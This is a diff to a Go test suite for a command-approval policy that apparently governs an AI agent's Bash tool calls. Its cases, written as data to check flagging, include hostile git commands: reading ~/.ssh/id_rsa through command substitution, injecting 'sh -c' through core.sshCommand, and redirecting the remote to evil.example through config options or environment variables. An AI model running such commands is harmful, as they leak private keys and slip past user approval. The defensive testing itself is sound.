@@ -112,7 +112,12 @@ func TestEverydayReads(t *testing.T) {
 		{"git fetch --recurse-submodules origin", Ask, "network"},
 		{"git fetch -o $(cat ~/.ssh/id_rsa) origin", Ask, ""},
 		{"git pull --rebase=interactive origin main", Ask, ""},
-		{"git -c core.sshCommand='sh -c id' fetch origin", Ask, "run"},
+		{"git -c core.sshCommand='sh -c id' fetch origin", Ask, ""},
+		{"git -c remote.origin.url=https://evil.example/x fetch origin", Ask, "network"},
+		{"git -c http.extraHeader='X: 1' pull", Ask, "network"},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://evil.example git fetch origin", Ask, ""},
+		{"git --git-dir=/tmp/evil/.git fetch origin", Ask, ""},
+		{"git -C /tmp/evil fetch origin", Ask, ""},
 		{"git push origin main", Ask, ""},
 	} {
 		d := p.Decide(&Request{Tool: "Bash", Args: map[string]any{"command": c.cmd}, Cwd: "/home/u/proj", Workspace: "/home/u/proj", Interactive: true})
